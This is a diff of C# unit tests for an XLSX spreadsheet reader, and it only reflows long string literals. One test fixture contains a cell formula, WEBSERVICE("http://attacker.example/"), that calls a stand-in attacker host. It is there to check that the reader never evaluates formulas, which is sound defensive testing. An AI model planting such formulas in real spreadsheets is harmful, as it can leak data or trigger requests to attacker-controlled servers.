@@ -56,7 +56,8 @@ public sealed class XlsxReaderTests
     [InlineData("yyyy/m/d", "99999999", "99999999")]
     public void A_number_reads_as_its_cell_shows_it(string format, string value, string shown)
     {
-        var styles = $"""<numFmts><numFmt numFmtId="170" formatCode="{format}"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="170"/></cellXfs>""";
+        var styles = $"""<numFmts><numFmt numFmtId="170" formatCode="{format}"/></numFmts>"""
+            + """<cellXfs><xf numFmtId="0"/><xf numFmtId="170"/></cellXfs>""";
         var document = Read.Document(One(
             Line(1, C("A1", "a"), C("B1", "b"), C("C1", "c"))
             + Line(2, $"""<c r="A2" s="1"><v>{value}</v></c>"""), styles: styles));
@@ -79,7 +80,8 @@ public sealed class XlsxReaderTests
     public void A_formula_counts_by_its_last_value_and_is_never_worked_out()
     {
         var rows = Line(1, C("A1", "=1+1"), C("B1", "-镇农业站"), C("C1", "c"))
-            + Line(2, """<c r="A2"><f>WEBSERVICE("http://attacker.example/")</f></c>""", """<c r="B2" t="str"><f>A1</f><v>上次的值</v></c>""", """<c r="C2" t="e"><v>#REF!</v></c>""");
+            + Line(2, """<c r="A2"><f>WEBSERVICE("http://attacker.example/")</f></c>""",
+                """<c r="B2" t="str"><f>A1</f><v>上次的值</v></c>""", """<c r="C2" t="e"><v>#REF!</v></c>""");
         Assert.Equal(["=1+1 | -镇农业站 | c", " | 上次的值 | "], Read.Rows(Read.Document(One(rows))));
     }
 
